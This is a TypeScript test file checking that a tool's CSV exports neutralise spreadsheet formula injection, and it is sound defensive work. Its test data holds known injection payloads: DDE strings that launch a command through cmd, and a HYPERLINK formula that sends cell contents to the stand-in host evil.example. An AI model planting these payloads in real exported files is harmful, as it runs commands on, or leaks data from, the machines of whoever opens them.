import { strict as assert } from 'node:assert';
import { csvDocument, csvField, isFormulaLike } from '../../../src/core/csv';
import { metricsCsv } from '../../../src/core/models/metrics';
import { toCsv } from '../../../src/core/secops/results/export';
import { tableToCsv } from '../../../src/core/secops/statistics/protocol';
import type { StatsColumn } from '../../../src/udm/stats/plan';
import { parseCsv } from '../../support/csv';

/** What a spreadsheet runs: a cell that starts (after blanks) with = + - @ and is not a plain number. */
function runsAsFormula(cell: string): boolean {
  return /^\s*[=+\-@]/.test(cell) && !/^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(cell);
}

const FORMULAS = [
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '-',
  '+',
  '－1+1',
  '＝1+1',
];
const DATA = ['-0.5', '+3', '1e-3', '-12.25', '42', '2+3', 'a=b', 'plain', '', ' padded ', 'say "hi"', 'a,b', 'l1\nl2'];

describe('csv: one writer with the formula guard', () => {
  for (const f of FORMULAS)
    it(`defuses ${JSON.stringify(f)}`, () => {
      assert.ok(isFormulaLike(f));
      const [cell] = parseCsv(`${csvField(f)}\r\n`)[0];
      assert.equal(cell, `'${f}`);
    });

  it('leaves numbers and ordinary text as they are, quoting only when needed', () => {
    for (const d of DATA) {
      assert.ok(!isFormulaLike(d), d);
      assert.equal(parseCsv(`${csvField(d)}\r\n`)[0][0], d);
    }
    assert.equal(csvField('-0.5'), '-0.5');
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
  });

  it('writes whole documents whose cells never run, whatever the values', () => {
    const values = [...FORMULAS, ...DATA];
    const doc = csvDocument(values.map((v) => [v, 'x']));
    const parsed = parseCsv(doc);
    assert.equal(parsed.length, values.length);
    for (const [cell] of parsed) assert.ok(!runsAsFormula(cell), cell);
  });

  it('every CSV Cloudbench writes uses it: results, statistics and metrics', () => {
    const key = "-2+3+cmd|' /C calc'!A0";
    const metrics = metricsCsv([{ label: '=evil()', metrics: { [key]: 1, '+x': -0.5 }, schemaUri: undefined }]);
    const results = toCsv(
      [{ udm: { principal: { hostname: key } } }],
      [{ id: 'udm.principal.hostname', label: '@label' }],
    );
    const column: StatsColumn = { name: '=h', role: 'key', type: 'string' };
    const stats = tableToCsv([column], [[key]], 'UTC');
    for (const [what, doc] of [
      ['metrics', metrics],
      ['results', results],
      ['statistics', stats],
    ] as const) {
      const cells = parseCsv(doc).flat();
      assert.ok(
        cells.some((c) => c.includes(key) || c.includes('=evil()') || c.includes('@label') || c.includes('=h')),
        `${what}: ${doc}`,
      );
      for (const cell of cells) assert.ok(!runsAsFormula(cell), `${what}: ${JSON.stringify(cell)} in ${doc}`);
    }
    assert.ok(parseCsv(metrics).flat().includes('-0.5'), 'a negative metric stays a number');
  });
});
